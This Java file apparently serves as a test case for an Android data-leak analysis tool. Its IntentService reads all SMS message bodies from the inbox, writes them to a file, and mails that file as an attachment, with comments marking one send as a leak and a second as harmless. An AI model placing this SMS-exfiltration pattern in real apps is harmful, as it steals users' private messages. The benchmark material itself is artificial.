package thieves;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;

import java.io.*;
import java.util.Properties;

import javax.activation.*;
import javax.mail.*;
import javax.mail.internet.*;

/** A file of messages hangs on a mail. */
public class Mailer extends IntentService {
    public Mailer() {
        super("m");
    }

    @Override
    protected void onHandleIntent(Intent i) {
        File f = new File(getFilesDir(), "out.txt"), g = new File(getFilesDir(), "hello.txt");
        try {
            FileWriter w = new FileWriter(f);
            Cursor c = managed("content://sms/inbox");
            while (c.moveToNext()) w.write(c.getString(c.getColumnIndex("body")) + "\n");
            w.close();
            FileOutputStream o = new FileOutputStream(g);
            o.write("hello".getBytes());
            o.close();
            Transport.send(message(f.getPath())); // leak
            Transport.send(message(g.getPath())); // no leak
        } catch (Exception e) {
            e.printStackTrace();
        }
    }

    Cursor managed(String uri) {
        return getContentResolver().query(Uri.parse(uri), null, null, null, null);
    }

    static Message message(String path) throws MessagingException {
        Multipart parts = new MimeMultipart();
        BodyPart text = new MimeBodyPart();
        text.setText("see below");
        parts.addBodyPart(text);
        BodyPart file = new MimeBodyPart();
        file.setDataHandler(new DataHandler(new FileDataSource(path)));
        file.setFileName("a.txt");
        parts.addBodyPart(file);
        MimeMessage m = new MimeMessage(Session.getInstance(new Properties()));
        m.setContent(parts);
        return m;
    }
}
